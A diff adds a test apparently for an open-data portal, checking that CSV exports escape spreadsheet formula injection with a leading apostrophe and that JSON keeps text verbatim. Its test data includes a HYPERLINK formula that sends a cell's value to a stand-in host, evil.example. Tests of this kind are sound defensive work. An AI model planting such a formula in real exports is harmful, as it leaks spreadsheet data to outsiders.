@@ -52,3 +52,27 @@ def test_unknown_dataset_or_format(client, portal_data):
     assert client.get("/open-data/people.csv").status_code == 404
     assert client.get("/open-data/meetings.xml").status_code == 404
     assert "meetings.csv" in client.get("/open-data/").content.decode()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?c="&A1,"Answer")'
+
+
+def test_formula_text_is_neutralised_in_every_csv_but_kept_in_json(client, portal_data):
+    answered, commitment = portal_data["answered"], portal_data["commitment"]
+    answered.text, answered.answer = FORMULA, "+7 701 — шақырыңыз"
+    answered.save()
+    commitment.text, commitment.evidence = "-1+1", "@SUM(A1:A2)"
+    commitment.save()
+    portal_data["past"].__class__.objects.filter(pk=portal_data["past"].pk).update(venue="=1+1")
+    for dataset in ("meetings", "questions", "commitments"):
+        rows = list(csv.reader(io.StringIO(download(client, f"/open-data/{dataset}.csv").lstrip("\ufeff"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], dataset
+    questions = list(csv.DictReader(io.StringIO(download(client, "/open-data/questions.csv").lstrip("\ufeff"))))
+    assert questions[0]["text"] == "'" + FORMULA and questions[0]["answer"] == "'+7 701 — шақырыңыз"
+    commitments = {r["id"]: r for r in csv.DictReader(
+        io.StringIO(download(client, "/open-data/commitments.csv").lstrip("\ufeff")))}
+    assert commitments[str(commitment.pk)]["text"] == "'-1+1"
+    assert commitments[str(commitment.pk)]["evidence"] == "'@SUM(A1:A2)"
+    # JSON is data for programs, not a spreadsheet: it keeps the text exactly as written.
+    assert json.loads(download(client, "/open-data/questions.json"))[0]["text"] == FORMULA
